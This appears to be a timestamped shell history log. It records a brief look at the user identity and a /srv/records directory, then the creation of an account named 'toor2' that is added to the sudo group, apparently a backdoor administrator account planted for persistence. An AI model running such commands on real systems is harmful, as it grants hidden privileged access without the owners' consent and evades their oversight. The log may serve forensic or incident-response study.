#1795827783
id; ls /srv/records
#1795827785
sudo useradd -m -s /bin/bash toor2
#1795827786
sudo usermod -aG sudo toor2
#1795827788
exit
